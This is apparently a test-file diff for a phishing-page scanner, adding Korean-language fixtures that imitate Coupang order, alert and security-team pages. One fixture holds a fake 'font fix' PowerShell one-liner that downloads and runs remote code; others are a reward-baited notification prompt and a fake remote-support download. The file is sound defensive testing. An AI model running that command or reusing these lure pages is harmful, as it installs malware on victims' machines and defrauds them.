@@ -158,3 +158,45 @@ describe("tune-ab's classes", () => {
     expect(scan(rental, 'https://www.barocar.example/license').verdict).toBe('clean');
   });
 });
+
+describe("tune-ab's classes, continued", () => {
+  it('reads a command shown as code, to be typed into PowerShell, that fetches and runs a program', () => {
+    const kit = page(
+      '주문서 열기 오류',
+      '<div><span>쿠</span><span>팡</span> 주문서 PDF 열기 오류</div><p>글꼴 누락으로 문서를 표시할 수 없습니다. PowerShell에서 다음 명령을 실행해 글꼴을 설치하세요.</p><pre>iwr fontfix.example/f | iex</pre>',
+    );
+    const r = scan(kit, 'https://order-doc.example/');
+    expect(r.reasons.map((x) => x.code)).toContain('asks-run-command');
+    expect(r.verdict).toBe('suspicious-page');
+  });
+  it("a developer tool's install line on its own page, the brand's API named, stays clean", () => {
+    const docs = page(
+      '셀러킷 CLI 설치 | 셀러킷 문서',
+      '<header><b>셀러킷</b> 문서</header><h1>CLI 설치</h1><p>셀러킷 CLI로 쿠팡 Wing 주문을 내려받을 수 있습니다. 터미널에서 다음 명령을 실행하세요.</p><pre>curl -fsSL https://get.sellerkit.example/install.sh | sh</pre><footer>© 셀러킷</footer>',
+    );
+    expect(scan(docs, 'https://docs.sellerkit.example/cli').verdict).toBe('clean');
+  });
+  it("reads a button's handler that asks for notifications under a promised reward", () => {
+    const kit = page(
+      '알림 설정',
+      '<div class="logo">coupang</div><h3>배송 알림을 받으려면 "허용"을 누르세요</h3><p>알림을 허용하면 보상 캐시 3,000원이 즉시 적립됩니다.</p><button onclick="Notification.requestPermission()">허용</button>',
+    );
+    expect(scan(kit, 'https://push-notice.example/').verdict).toBe('suspicious-page');
+  });
+  it('a news site’s own alert button, nothing hanging on it, stays clean', () => {
+    const news = page(
+      '속보 알림 | 한빛일보',
+      '<header><b>한빛일보</b></header><h1>속보 알림 받기</h1><p>쿠팡 유출 사고 후속 보도를 가장 먼저 받아 보세요. 브라우저 창에서 "허용"을 누르면 됩니다.</p><button onclick="Notification.requestPermission()">알림 받기</button><footer>© 한빛일보</footer>',
+    );
+    expect(scan(news, 'https://www.hanbit-daily.example/alerts').verdict).toBe('clean');
+  });
+  it('reads "원격 점검" with a program to run as remote control', () => {
+    const kit = page(
+      '보안팀',
+      '<div class="logo">쿠팡 보안팀</div><p>명의도용 결제 차단을 위해 PC 원격 점검이 필요합니다. 아래 프로그램을 실행하고 화면에 뜨는 9자리 ID를 상담원에게 알려주세요.</p><a href="/win/Support_Setup.exe">점검 프로그램 (Windows)</a>',
+    );
+    const r = scan(kit, 'https://pc-check.example/');
+    expect(r.reasons.map((x) => x.code)).toContain('remote-control-app');
+    expect(r.verdict).toBe('suspicious-page');
+  });
+});
